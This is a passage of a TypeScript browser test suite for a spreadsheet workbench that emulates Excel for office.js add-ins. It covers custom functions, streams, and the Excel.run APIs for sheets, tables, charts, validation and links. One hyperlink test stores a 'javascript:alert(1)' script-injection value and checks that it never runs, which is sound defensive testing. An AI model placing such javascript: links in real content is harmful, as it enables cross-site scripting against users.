/**
 * The workbench with a small add-in of its own (tests/workbench/addin), through the real office.js: what a person types and clicks,
 * and what an add-in's Excel.run does. Tests of this file share one page and run in order.
 */
import { readFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";
import type axe from "axe-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { WorkbookPlan } from "../../src/workbench/grid/plan";
import { serve } from "../../src/workbench/server/serve";
import { readWorkbook, writeWorkbook } from "../../src/xlsx/index";
import { browserPath, LEFT_OVER, type OpenWorkbench, openWorkbench, probe, titleWithPin } from "./browser";

const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const ADDIN = fileURLToPath(new URL("../workbench/addin", import.meta.url));

/** What the tests read from the add-in's page. */
declare global {
  interface Window {
    ticks: { live: number; canceled: number };
    axe: typeof axe;
  }
}

describe.skipIf(browserPath() === "")("workbench", () => {
  let w: OpenWorkbench;
  const paneText = (id: string): Promise<string> =>
    w.inPane((element) => document.getElementById(element)?.textContent ?? "", id);
  const press = async (id: string): Promise<void> => (await w.pane()).click(`#${id}`);
  const liveTicks = (): Promise<number> => w.inPane(() => window.ticks.live);
  const eventually = (ask: () => Promise<boolean>, what: string): Promise<boolean> => probe(ask, () => what);

  const open = (bytes: Uint8Array): Promise<void> =>
    w.page.evaluate((all) => window.workbench?.open(all, "test.xlsx"), [...bytes]);
  /** The add-in starts anew for another workbook. */
  const paneStarted = (): Promise<boolean> =>
    eventually(async () => (await paneText("status").catch(() => "")).startsWith("host="), "the add-in starts");

  beforeAll(async () => {
    w = await openWorkbench({
      addin: ADDIN,
      paneReady: () => document.getElementById("status")?.textContent?.startsWith("host=") ?? false,
    });
    await open(await writeWorkbook({ sheets: [{ name: "Sheet1", cells: [] }] }));
    await paneStarted();
  });
  afterAll(async () => {
    await w?.close();
  });

  test("office.js believes that this is Excel", async () => {
    expect(await paneText("status")).toBe("host=Excel platform=OfficeOnline");
  });

  describe("worksheet functions", () => {
    test("a pane's table, and a function over its rows", async () => {
      await press("table");
      await w.until("E2", 400);
      await w.type("L1", "=TEST.PROJECT_NPV(0.1,E2:E11)");
      const npv = await w.until("L1", (v) => typeof v === "number");
      const flows = (await w.values("E2:E11")).flat().map(Number);
      expect(npv).toBeCloseTo(
        flows.reduce((sum, flow, k) => sum + flow / 1.1 ** k, 0),
        8,
      );
      await w.type("L2", "=test.project_npv(0.1,E2:E11,0.02)");
      expect(await w.until("L2", (v) => typeof v === "number")).not.toBe(npv);
    });

    test("results spill; #SPILL! and recovery", async () => {
      await w.type("L4", "=TEST.SCHEDULE(1000,5%,4)");
      await w.until("L8", 4);
      expect(await w.values("L4:P4")).toEqual([["Period", "Opening", "Interest", "Payment", "Closing"]]);
      await w.type("M12", "blocker");
      await w.type("L11", "=TEST.SCHEDULE(1,5%,2)");
      await w.until("L11", "#SPILL!");
      await w.goTo("L11");
      await w.says("#SPILL! cells that should be empty are not: clear M12");
      await w.goTo("M12");
      await w.page.keyboard.press("Delete");
      await w.until("L13", 2);
    });

    test("#BUSY! first, then the value, then what depends on it", async () => {
      await w.page.evaluate(() => {
        const bench = window.workbench;
        const seen: unknown[] = [];
        bench?.grid.onPassEnd(() => seen.push(bench.value("L16")));
        Reflect.set(window, "seen", seen);
      });
      await w.type("L16", "=TEST.SLOW(4)");
      await w.until("L16", 40);
      const seen = await w.page.evaluate(() => Reflect.get(window, "seen") as unknown[]);
      expect(seen.filter((value, k) => value !== null && value !== seen[k - 1])).toEqual(["#BUSY!", 40]);
      await w.type("L17", "=L16+1");
      await w.until("L17", 41);
      await w.type("L18", "=TEST.SLOW(1)+TEST.SLOW(2)");
      await w.until("L18", 30);
    });

    test("errors keep their text", async () => {
      await w.type("L19", '=TEST.FAIL("tests")');
      await w.until("L19", "#N/A");
      await w.goTo("L19");
      await w.says("#N/A TEST.FAIL: because tests");
      await w.type("L20", '=TEST.REJECT("x")');
      await w.until("L20", "#NUM!");
      await w.goTo("L20");
      await w.says(/later x/);
      await w.type("L21", "=TEST.THROW()");
      await w.until("L21", "#VALUE!");
      await w.type("L22", '=IFERROR(TEST.FAIL("x"),"caught")');
      await w.until("L22", "caught");
      await w.type("L23", '=TEST.ADD("abc")');
      await w.until("L23", "#VALUE!");
      await w.goTo("L23");
      await w.says(/x must be a number/);
      await w.type("R1", "=TEST.MIXED()");
      await w.until("S1", "#N/A");
      await w.goTo("S1");
      await w.says(/why/);
      expect(await w.values("R2:S3")).toEqual([
        [0, ""],
        [0, 0],
      ]);
      await w.type("R6", "=TEST.NOPE(1)");
      await w.until("R6", "#NAME?");
    });

    test("arguments arrive as in Excel", async () => {
      await w.type("L24", "=TEST.ECHO(A1:B2,,3)");
      await w.type("L25", "=TEST.ECHO(Z1:Z2)");
      await w.type("L26", "=1/0");
      await w.type("L27", "=TEST.ECHO(L26:L26,TRUE)");
      await w.type("L28", '=TEST.PAIRS(A1:A2,"key",1,"other",Z1)');
      await w.type("L29", "=TEST.PAIRS()");
      const json = async (address: string): Promise<unknown> =>
        JSON.parse(String(await w.until(address, (v) => String(v).startsWith("{"))));
      expect(await json("L24")).toEqual({
        a: [
          ["Year", "Revenue"],
          [2026, 1000],
        ],
        b: null,
        c: 3,
        at: "Sheet1!L24",
        from: ["Sheet1!A1:B2", "", ""],
      });
      expect(await json("L25")).toMatchObject({ a: [[null], [null]], b: null, c: null });
      expect(await json("L27")).toMatchObject({ a: [[{ code: "#DIV/0!" }]], b: true });
      expect(await json("L28")).toEqual({ table: [["Year"], [2026]], overrides: ["key", 1, "other", null] });
      expect(await json("L29")).toEqual({ table: null, overrides: [] });
    });

    test("a range for one value calls once for each cell; a format comes with its value", async () => {
      await w.page.evaluate(() => window.workbench?.write("U1", [[1], [2], ["x"]]));
      await w.type("V1", "=TEST.ADD(U1:U3)");
      await w.until("V2", 3);
      expect(await w.values("V1:V3")).toEqual([[2], [3], ["#VALUE!"]]);
      await w.type("W1", "=TEST.SHARE()");
      await w.until("W1", 0.125);
      await eventually(
        async () => (await w.page.evaluate(() => window.workbench?.text("W1")[0]?.[0])) === "12.5%",
        "W1 is shown with the format of its value",
      );
    });

    test("an edit is followed and undone", async () => {
      await w.type("B2", "2000");
      await w.until("E2", 1400);
      await w.page.keyboard.press("Control+z");
      await w.until("E2", 400);
    });

    /** Nothing is being typed, the cells of these tests are empty and no stream runs: each begins here, whatever came before. */
    const noStreams = async (): Promise<void> => {
      if ((await w.typed()) !== null) await w.page.keyboard.press("Escape");
      await w.page.evaluate(() => {
        const empty = (rows: number, cols: number): string[][] =>
          Array.from({ length: rows }, () => Array(cols).fill(""));
        window.workbench?.write("R8", empty(2, 2));
        window.workbench?.write("U41", empty(8, 3));
      });
      await eventually(async () => (await liveTicks()) === 0, "no stream runs");
    };
    const canceled = (): Promise<number> => w.inPane(() => window.ticks.canceled);
    const results = (): Promise<number> => w.page.evaluate(() => window.workbench?.stats().results ?? 0);

    test("streams run, restart with their argument, and are cancelled with their formula", async () => {
      await noStreams();
      const before = await canceled();
      await w.type("R8", "=TEST.TICK(60)");
      await w.until("R8", (v) => Number(v) >= 3);
      await w.type("S8", "50");
      await w.type("R9", "=TEST.TICK(S8)");
      await w.until("R9", (v) => Number(v) >= 2);
      await w.type("S8", "70");
      await eventually(async () => (await canceled()) === before + 1, "the old stream is cancelled");
      await w.type("R9", "7");
      await w.until("R9", 7);
      await w.goTo("R8");
      await w.page.keyboard.press("Delete");
      await w.until("R8", null);
      await eventually(async () => (await liveTicks()) === 0, "both streams are cancelled");
      expect(await w.values("R8:R9")).toEqual([[null], [7]]);
    });

    test("what is being typed over a stream stays when the stream's next result arrives", async () => {
      await noStreams();
      await w.type("R9", "=TEST.TICK(30)");
      await w.until("R9", (v) => Number(v) >= 2);
      await w.goTo("R9");
      await w.page.keyboard.type("12");
      const before = Number(await w.value("R9"));
      await w.until("R9", (v) => Number(v) > before + 5);
      expect(await w.typed()).toBe("12");
      await w.page.keyboard.type("3");
      await w.page.keyboard.press("Enter");
      await w.until("R9", 123);
      await eventually(async () => (await liveTicks()) === 0, "the stream is cancelled");
    });

    test("a stream ends when its formula no longer calls it, even where the formula still names it", async () => {
      await noStreams();
      for (const formula of ['="TEST.TICK(30)"', "=TEST.TICK2(30)", "=1+1"]) {
        await w.type("R8", "=TEST.TICK(30)");
        await w.until("R8", (v) => Number(v) >= 2);
        await w.page.evaluate((f) => window.workbench?.write("R8", [[f]]), formula);
        await eventually(async () => (await liveTicks()) === 0, `${formula} calls no stream`);
      }
      await noStreams();
    });

    test("a stream whose formula is gone before the add-in was asked is never begun", async () => {
      await noStreams();
      const before = await canceled();
      await w.page.evaluate(async () => {
        const bench = window.workbench;
        const passed = new Promise<void>((done) => bench?.grid.onPassEnd(() => done()));
        bench?.write("R8", [["=TEST.TICK(31)"]]);
        await passed;
        bench?.write("R8", [[""]]);
        await bench?.settled();
      });
      await w.until("R8", null);
      await eventually(async () => (await liveTicks()) === 0, "no stream is left");
      expect(await canceled()).toBeLessThanOrEqual(before + 1);
    });

    test("edits that follow each other at once leave no stream and lose no result", async () => {
      await noStreams();
      await w.page.evaluate(async () => {
        const bench = window.workbench;
        const wait = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
        bench?.write("V41", [[1], [2], [3]]);
        bench?.write("W41", [["=TEST.ADD(V41)"], ["=TEST.ADD(V42)"], ["=V41+V42+V43"]]);
        for (let round = 0; round < 25; round++) {
          bench?.write("U41", [["=TEST.TICK(21)"], ["=TEST.TICK(V43)"]]);
          await wait(17 * (round % 9));
          bench?.write("V41", [[round], [round + 1], [20 + round]]);
          await wait(11 * (round % 7));
          bench?.write("U41", [[""], [round]]);
          await wait(7 * (round % 5));
        }
      });
      await w.until("W41", 25);
      await w.until("W42", 26);
      await w.until("W43", 24 + 25 + 44);
      await w.until("U42", 24);
      await eventually(async () => (await liveTicks()) === 0, "no stream is left");
      const settled = await results();
      await w.page.evaluate(() =>
        window.workbench?.write("U41", [
          ["", "", ""],
          ["", "", ""],
          ["", "", ""],
        ]),
      );
      expect(await results()).toBe(settled);
    });

    test("an edit made while the engine runs is not overwritten by the old result", async () => {
      await noStreams();
      const stale = await w.page.evaluate(async () => {
        const bench = window.workbench;
        if (!bench) return "no workbench";
        const wait = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
        const calculating = (): boolean => Reflect.get(bench.grid, "calculating") === true;
        bench.write(
          "U41",
          Array.from({ length: 8 }, () => ["=TEST.TICK(25)"]),
        );
        for (let round = 0; round < 6; round++) {
          bench.write("W41", [["=TEST.TICK(30)"]]);
          await wait(150 + 20 * round);
          for (let n = 0; n < 200 && !calculating(); n++) await wait(1);
          bench.write("W41", [[7]]);
          await wait(250);
          if (bench.value("W41") !== 7) return bench.value("W41");
        }
        bench.write(
          "U41",
          Array.from({ length: 8 }, () => ["", "", ""]),
        );
        return null;
      });
      expect(stale).toBeNull();
      await eventually(async () => (await liveTicks()) === 0, "streams are cancelled");
    });

    test("typing offers functions and explains arguments", async () => {
      await w.goTo("R30");
      await w.page.keyboard.type("=TEST.PRO", { delay: 30 });
      await w.page.getByText("Net present value of a row").first().waitFor();
      await w.page.keyboard.type("JECT_NPV(0.1,", { delay: 30 });
      await w.page.getByText("Required. Cash flows").waitFor();
      await w.page.keyboard.press("Escape");
      await w.page.keyboard.press("Escape");
    });
  });

  describe("Excel.run", () => {
    test("worksheets: add, find, rename, colour, hide, activate, delete", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheets = c.workbook.worksheets;
          const results = sheets.add("Results");
          const other = sheets.add();
          const missing = sheets.getItemOrNullObject("Nope");
          results.load("name,position");
          await c.sync();
          other.name = "Other sheet";
          other.tabColor = "#FF8800";
          other.visibility = "Hidden";
          other.load("tabColor,visibility");
          const range = other.getRange("A1:B2");
          range.load("address");
          await c.sync();
          const { tabColor, visibility } = other;
          other.delete();
          sheets.load("items/name");
          await c.sync();
          return [
            results.name,
            missing.isNullObject,
            range.address,
            tabColor,
            visibility,
            sheets.items.map((s) => s.name),
          ];
        }),
      );
      expect(seen).toEqual([
        "Results",
        true,
        "'Other sheet'!A1:B2",
        expect.stringMatching(/ff8800/i),
        "Hidden",
        ["Sheet1", "Results"],
      ]);
    });

    test("ranges: values, formulas, formats, parts, and results in the batch that wrote them", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          sheet.getRange("B2:D3").values = [
            [1, "two", true],
            [4, "=B2*10", ""],
          ];
          sheet.getRange("B3").numberFormat = [["0.00"]];
          const used = sheet.getUsedRange();
          used.load("address,values,formulas,text,valueTypes");
          const part = sheet.getRange("B2").getResizedRange(1, 1).getOffsetRange(1, 0);
          part.load("address");
          await c.sync();
          return [used.address, used.values, used.formulas, used.text, used.valueTypes, part.address];
        }),
      );
      expect(seen).toEqual([
        "Results!B2:D3",
        [
          [1, "two", true],
          [4, 10, ""],
        ],
        [
          [1, "two", true],
          [4, "=B2*10", ""],
        ],
        [
          ["1", "two", "TRUE"],
          ["4.00", "10", ""],
        ],
        [
          ["Double", "String", "Boolean"],
          ["Double", "Double", "Empty"],
        ],
        "Results!B3:C4",
      ]);
    });

    test("formats, borders and merged cells", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const range = c.workbook.worksheets.getItem("Results").getRange("B2:D2");
          range.format.font.bold = true;
          range.format.font.color = "#FF0000";
          range.format.fill.color = "#FFFF00";
          range.format.columnWidth = 90;
          range.format.horizontalAlignment = "Center";
          const bottom = range.format.borders.getItem("EdgeBottom");
          bottom.style = "Continuous";
          bottom.weight = "Medium";
          range.load("format/columnWidth,format/horizontalAlignment,format/font/bold,format/fill/color");
          bottom.load("style,weight");
          await c.sync();
          c.workbook.worksheets.getItem("Results").getRange("B10:D10").merge();
          c.workbook.worksheets.getItem("Results").getRange("B10:D10").unmerge();
          await c.sync();
          const { format } = range;
          return [
            format.columnWidth,
            format.horizontalAlignment,
            format.font.bold,
            format.fill.color,
            bottom.style,
            bottom.weight,
          ];
        }),
      );
      expect(seen).toEqual([90, "Center", true, expect.stringMatching(/ffff00/i), "Continuous", "Medium"]);
    });

    test("names, of the workbook and of a sheet", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          sheet.getRange("F1:F3").values = [[42], [43], [85]];
          c.workbook.names.add("Flows_", sheet.getRange("F1:F3"), "a comment");
          sheet.names.add("Local_", sheet.getRange("F1"));
          const flows = c.workbook.names.getItem("Flows_");
          flows.load("formula,comment,type,scope");
          const local = sheet.names.getItem("Local_");
          local.load("scope");
          const elsewhere = c.workbook.names.getItemOrNullObject("Local_");
          sheet.getRange("H1").formulas = [["=SUM(Flows_)"]];
          const sum = sheet.getRange("H1");
          sum.load("values");
          await c.sync();
          return [flows.formula, flows.comment, flows.type, local.scope, elsewhere.isNullObject, sum.values];
        }),
      );
      expect(seen).toEqual(["=Results!$F$1:$F$3", "a comment", "Range", "Worksheet", true, [[170]]]);
    });

    test("tables: structured references, rows and columns", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          const range = sheet.getRange("J1:K4");
          range.values = [
            ["k", "v"],
            ["a", 1],
            ["b", 2],
            ["c", 3],
          ];
          const table = sheet.tables.add(range, true);
          table.name = "RateTable";
          await c.sync();
          table.rows.add(undefined, [["d", 4]]);
          sheet.getRange("M1").formulas = [["=SUM(RateTable[v])"]];
          const sum = sheet.getRange("M1");
          sum.load("values");
          const body = table.getDataBodyRange();
          body.load("address");
          const column = table.columns.getItem("v");
          column.load("index,values");
          table.rows.load("count");
          await c.sync();
          return [body.address, column.index, column.values.flat(), table.rows.count, sum.values];
        }),
      );
      expect(seen).toEqual(["Results!J2:K5", 1, ["v", 1, 2, 3, 4], 4, [[10]]]);
    });

    test("rows of one formula, a condition that colours, a chart drawn over its cells: all go with their sheet", async () => {
      const made = await w.inPane(() =>
        Excel.run(async (context) => {
          const sheet = context.workbook.worksheets.add("Model");
          sheet.getRange("A1:A3").values = [["Year"], ["Cash"], ["Sum"]];
          sheet.getRange("B1:K1").formulasR1C1 = "=2026+COLUMN()-2" as unknown as string[][];
          sheet.getRange("B2:K2").formulasR1C1 = "=(R1C-2030)*10" as unknown as string[][];
          sheet.getRange("B3:K3").formulasR1C1 = "=SUM(R2C2:R[-1]C)" as unknown as string[][];
          const format = sheet.getRange("B2:K3").conditionalFormats.add("Custom");
          format.custom.rule.formula = "=B2<0";
          format.custom.format.fill.color = "#FF0000";
          const chart = sheet.charts.add("Line", sheet.getRange("A2:K2"), "Rows");
          chart.title.text = "Cash by year";
          const series = chart.series.getItemAt(0);
          series.setXAxisValues(sheet.getRange("B1:K1"));
          series.name = "Cash";
          series.format.line.color = "#0B5A3C";
          const total = chart.series.add("Sum");
          total.setValues(sheet.getRange("B3:K3"));
          chart.setPosition("B5", "H18");
          sheet.pageLayout.orientation = "Landscape";
          sheet.pageLayout.setPrintTitleRows("$1:$1");
          sheet.pageLayout.headersFooters.defaultForAllPages.leftFooter = "ore && iron";
          sheet.getRange("2:3").group("ByRows");
          sheet.activate();
          await context.sync();
          const row = sheet.getRange("J3:K3").load("formulas,formulasR1C1,values");
          const count = sheet.getRange("B2").conditionalFormats.getCount();
          const layout = sheet.pageLayout.load("orientation");
          const footer = sheet.pageLayout.headersFooters.defaultForAllPages.load("leftFooter");
          await context.sync();
          return [row.formulas, row.formulasR1C1, row.values, count.value, layout.orientation, footer.leftFooter];
        }),
      );
      expect(made).toEqual([
        [["=SUM($B$2:J2)", "=SUM($B$2:K2)"]],
        [["=SUM(R2C2:R[-1]C)", "=SUM(R2C2:R[-1]C)"]],
        [[0, 50]],
        1,
        "Landscape",
        "ore && iron",
      ]);
      const chart = w.page.getByRole("img", { name: /^Chart: Cash by year\. Cash: 2026 -40, 2027 -30.*Sum: 2026 -40/ });
      await chart.waitFor();
      const inked = () =>
        chart.locator("canvas").evaluate((canvas) => {
          const { data } = (canvas as HTMLCanvasElement).getContext("2d")?.getImageData(0, 0, 4000, 4000) ?? {
            data: [],
          };
          return data.some((part, k) => k % 4 === 0 && part === 0x0b && data[k + 1] === 0x5a && data[k + 2] === 0x3c);
        });
      await expect.poll(inked, { timeout: 10_000 }).toBe(true);
      /** The colour of a point of the grid as it is on the screen, beside the text. */
      const red = async (address: string): Promise<boolean> => {
        const box = await w.page.evaluate((at) => {
          type Seen = { view(): { box: DOMRect; place(a: object): DOMRect } };
          const view = (window.workbench as unknown as { grid: Seen }).grid.view();
          const column = at.charCodeAt(0) - 65;
          const cell = view.place({ row: Number(at.slice(1)) - 1, col: column, rows: 1, cols: 1 });
          return { x: view.box.left + cell.left + 4, y: view.box.top + cell.top + 4 };
        }, address);
        const shot = await w.page.screenshot({ clip: { ...box, width: 1, height: 1 } });
        return w.page.evaluate(async (base64) => {
          const image = new Image();
          image.src = `data:image/png;base64,${base64}`;
          await image.decode();
          const context = new OffscreenCanvas(1, 1).getContext("2d");
          context?.drawImage(image, 0, 0);
          const [r = 0, g = 0, b = 0] = context?.getImageData(0, 0, 1, 1).data ?? [];
          return r > 200 && g < 60 && b < 60;
        }, shot.toString("base64"));
      };
      await expect.poll(() => red("C2"), { timeout: 10_000 }).toBe(true);
      expect(await red("K2")).toBe(false);

      await w.page.evaluate(() => window.workbench?.write("C2", [[77]]));
      await w.page.getByRole("img", { name: /2027 77/ }).waitFor();
      await expect.poll(() => red("C2"), { timeout: 10_000 }).toBe(false);

      const left = await w.inPane(() =>
        Excel.run(async (context) => {
          const format = context.workbook.worksheets.getItem("Model").getRange("B2:C2").conditionalFormats;
          format.clearAll();
          const sheet = context.workbook.worksheets.getItem("Model");
          const none = sheet.getRange("B2:C2").conditionalFormats.getCount();
          const around = sheet.getRange("B2:K3").conditionalFormats.load("items/id,items/type");
          await context.sync();
          const rules = around.items.map((item) => item.custom.rule.load("formula"));
          const areas = around.items.map((item) => item.getRange().load("address"));
          await context.sync();
          const before = [none.value, rules.map((rule, k) => `${areas[k]?.address} ${rule.formula}`).sort()];
          context.workbook.worksheets.getItem("Model").delete();
          await context.sync();
          return before;
        }),
      );
      expect(left).toEqual([0, ["Model!B3:K3 =B3<0", "Model!D2:K2 =D2<0"]]);
      await expect.poll(() => w.page.locator("#charts .chart").count(), { timeout: 10_000 }).toBe(0);
      expect(await w.page.evaluate(() => window.workbench?.charts.length)).toBe(0);
    });

    test("comments, validation with its texts, recorded charts, frozen rows", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          c.workbook.comments.add("Results!B2", "why this is so");
          const list = sheet.getRange("P1").dataValidation;
          list.rule = { list: { inCellDropDown: true, source: "Base,High,Low" } };
          const share = sheet.getRange("P2").dataValidation;
          share.rule = { decimal: { formula1: 0, formula2: 1, operator: "Between" } };
          share.prompt = { showPrompt: true, title: "Share", message: "from 0 to 1" };
          share.errorAlert = { showAlert: true, style: "Warning", title: "Share", message: "outside 0 to 1" };
          const chart = sheet.charts.add("Line", sheet.getRange("J1:K4"), "Columns");
          chart.title.text = "Rates";
          chart.name = "RateChart";
          sheet.freezePanes.freezeRows(1);
          const comment = c.workbook.comments.getItemByCell("Results!B2");
          comment.load("content");
          list.load("type,rule");
          share.load("type,rule,prompt,errorAlert");
          await c.sync();
          return [comment.content, list.type, list.rule, share.type, share.rule, share.prompt, share.errorAlert];
        }),
      );
      expect(seen).toEqual([
        "why this is so",
        "List",
        { list: { inCellDropDown: true, source: "Base,High,Low" } },
        "Decimal",
        { decimal: { formula1: 0, formula2: 1, operator: "Between" } },
        { showPrompt: true, title: "Share", message: "from 0 to 1" },
        { showAlert: true, style: "Warning", title: "Share", message: "outside 0 to 1" },
      ]);
      const charts = await w.page.evaluate(() =>
        window.workbench?.charts.map((chart) => [chart.type, chart.properties["Title.Text"]]),
      );
      expect(charts).toContainEqual(["Line", "Rates"]);
    });

    test("an array too large for one message arrives whole", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.add("Large");
          const range = sheet.getRange("A1:D900");
          range.values = Array.from({ length: 900 }, (_, i) => [i, i + 1, i + 2, "x"]);
          await c.sync();
          range.load("values");
          await c.sync();
          const last = range.values[899];
          sheet.delete();
          await c.sync();
          return last;
        }),
      );
      expect(seen).toEqual([899, 900, 901, "x"]);
    });

    test("a table becomes a plain range, and formulas keep their values beside a second table", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.add("Two tables");
          sheet.getRange("A1:B3").values = [
            ["k", "v"],
            ["a", 1],
            ["b", 2],
          ];
          sheet.getRange("D1:E3").values = [
            ["k", "v"],
            ["a", 10],
            ["b", 20],
          ];
          const one = sheet.tables.add("A1:B3", true);
          one.name = "Alpha";
          const two = sheet.tables.add("D1:E3", true);
          two.name = "BetaTable";
          await c.sync();
          const formulas = sheet.getRange("G1:G3");
          formulas.formulas = [["=SUM(Alpha[v])"], ["=SUM(BetaTable[v])"], ["=SUM(Alpha[v],BetaTable[v])"]];
          await c.sync();
          one.convertToRange();
          await c.sync();
          formulas.load("formulas,values");
          sheet.tables.load("items/name");
          await c.sync();
          const answer = [formulas.formulas.flat(), formulas.values.flat(), sheet.tables.items.map((t) => t.name)];
          sheet.delete();
          await c.sync();
          return answer;
        }),
      );
      expect(seen).toEqual([
        ["=SUM('Two tables'!$B$2:$B$3)", "=SUM(BetaTable[v])", "=SUM('Two tables'!$B$2:$B$3,BetaTable[v])"],
        [3, 30, 33],
        ["BetaTable"],
      ]);
    });

    test("isNullObject alone may be loaded of whatever may be missing", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const { tables, names, worksheets, settings } = c.workbook;
          const all = [
            tables.getItemOrNullObject("RateTable"),
            tables.getItemOrNullObject("Nope"),
            names.getItemOrNullObject("Flows_"),
            names.getItemOrNullObject("Nope"),
            worksheets.getItemOrNullObject("Results"),
            worksheets.getItemOrNullObject("Nope"),
            settings.getItemOrNullObject("Nope"),
            worksheets.getItem("Results").getUsedRangeOrNullObject(),
            worksheets.getItem("Results").getRange("A1").getIntersectionOrNullObject("B2"),
          ];
          for (const one of all) one.load("isNullObject");
          await c.sync();
          return all.map((one) => one.isNullObject);
        }),
      );
      expect(seen).toEqual([false, true, false, true, false, true, true, false, true]);
    });

    test("many validations are set at once", async () => {
      await w.page.evaluate(() => {
        const grid = window.workbench?.grid ?? {};
        const commands = Reflect.get(Reflect.get(grid, "book"), "commands");
        Reflect.set(window, "rules", 0);
        commands.onCommandExecuted(({ id }: { id: string }) => {
          if (/data-validation/.test(id)) Reflect.set(window, "rules", Reflect.get(window, "rules") + 1);
        });
      });
      const last = await w.inPane(async () => {
        const count = 220;
        await Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          for (let i = 0; i < count; i++) {
            const validation = sheet.getRange(`AC${i + 1}`).dataValidation;
            validation.rule = { decimal: { formula1: i, formula2: i + 1, operator: "Between" } };
            validation.prompt = { showPrompt: true, title: `Row ${i}`, message: "a bound" };
            validation.errorAlert = { showAlert: true, style: "Warning", title: "Row", message: `${i}` };
          }
          await c.sync();
        });
        return Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          const last = sheet.getRange(`AC${count}`).dataValidation;
          last.load("rule,prompt,errorAlert");
          await c.sync();
          return [last.rule, last.prompt.title, last.errorAlert.message];
        });
      });
      expect(last).toEqual([{ decimal: { formula1: 219, formula2: 220, operator: "Between" } }, "Row 219", "219"]);
      expect(await w.page.evaluate(() => Reflect.get(window, "rules") as number)).toBeLessThanOrEqual(220);
    });

    test("a list of choices opens on its cell in words, and a choice is taken", async () => {
      await w.inPane(() =>
        Excel.run(async (c) => {
          const cell = c.workbook.worksheets.getActiveWorksheet().getRange("H30");
          cell.dataValidation.rule = { list: { inCellDropDown: true, source: "Base,High,Low" } };
          cell.values = [["Base"]];
          await c.sync();
        }),
      );
      await w.goTo("H30");
      await w.page.keyboard.press("F2");
      await w.page.getByText("Select an item").waitFor();
      const words = await w.page.evaluate(() => document.body.innerText);
      expect(words).not.toMatch(/sheets-ui|data-validation/);
      expect(words.split("\n")).not.toContain("Edit");
      await w.page.getByText("High", { exact: true }).click();
      await w.until("H30", "High");
      if ((await w.typed()) !== null) await w.page.keyboard.press("Escape");
    });

    test("links lead to their place, and looks are read cell by cell", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          sheet.getRange("S1").hyperlink = { documentReference: "Sheet1!C7", textToDisplay: "go" };
          sheet.getRange("S2").format.font.bold = true;
          const link = sheet.getRange("S1");
          link.load("hyperlink,values");
          const looks = sheet.getRange("S1:S2").getCellProperties({ format: { font: { bold: true } } });
          sheet.activate();
          await c.sync();
          return [link.hyperlink, link.values, looks.value];
        }),
      );
      expect(seen).toEqual([
        { documentReference: "Sheet1!C7", textToDisplay: "go" },
        [["go"]],
        [[{ format: { font: { bold: false } } }], [{ format: { font: { bold: true } } }]],
      ]);
    });

    test("a link to the web opens in a tab of its own, and only when it is clicked", async () => {
      await w.page.context().route("https://example.com/**", (route) => route.fulfill({ body: "there" }));
      const outsideBefore = w.outside.length;
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          sheet.activate();
          const link = sheet.getRange("A1");
          link.hyperlink = { address: "https://example.com/a", textToDisplay: "paper", screenTip: "the source" };
          const bare = sheet.getRange("A2");
          bare.hyperlink = { address: "https://example.com/b" };
          link.load("hyperlink");
          bare.load("hyperlink,values");
          await c.sync();
          const { hyperlink } = bare;
          bare.clear("Hyperlinks");
          const script = sheet.getRange("A3");
          script.hyperlink = { address: "javascript:alert(1)", textToDisplay: "never" };
          await c.sync();
          bare.load("hyperlink");
          await c.sync();
          return [link.hyperlink, hyperlink, bare.hyperlink];
        }),
      );
      expect(seen).toEqual([
        { address: "https://example.com/a", textToDisplay: "paper", screenTip: "the source" },
        { address: "https://example.com/b", textToDisplay: "https://example.com/b" },
        null,
      ]);
      await w.goTo("A1");
      await w.says("the source");
      const anchor = w.page.locator("#line-link");
      expect(await anchor.getAttribute("href")).toBe("https://example.com/a");
      expect(await anchor.getAttribute("rel")).toContain("noopener");
      expect(w.page.context().pages().length).toBe(1);

      const box = await w.page.locator('#grid canvas[id^="univer-sheet-main-canvas"]').boundingBox();
      const { x = 0, y = 0 } = box ?? {};
      const [tab] = await Promise.all([w.page.context().waitForEvent("page"), w.page.mouse.click(x + 70, y + 30)]);
      await tab.waitForURL("https://example.com/a");
      expect(await tab.evaluate(() => window.opener)).toBeNull();
      await tab.close();
      await w.goTo("A3");
      await w.page.mouse.click(x + 70, y + 30 + 2 * 24);
      await w.page.mouse.click(x + 170, y + 30);
      expect(w.page.context().pages().length).toBe(1);
      expect(w.outside.length).toBe(outsideBefore);
    });

    test("the looks of many cells are set in one call", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const range = c.workbook.worksheets.getItem("Results").getRange("AE1:AF1");
          range.setCellProperties([
            [{ format: { font: { bold: true, color: "#FF0000" } } }, { format: { fill: { color: "#00FF00" } } }],
          ]);
          const looks = range.getCellProperties({
            addressLocal: true,
            format: { font: { bold: true, color: true }, fill: { color: true } },
          });
          await c.sync();
          return looks.value;
        }),
      );
      expect(seen).toMatchObject([
        [
          { addressLocal: "Results!AE1", format: { font: { bold: true, color: "#FF0000" } } },
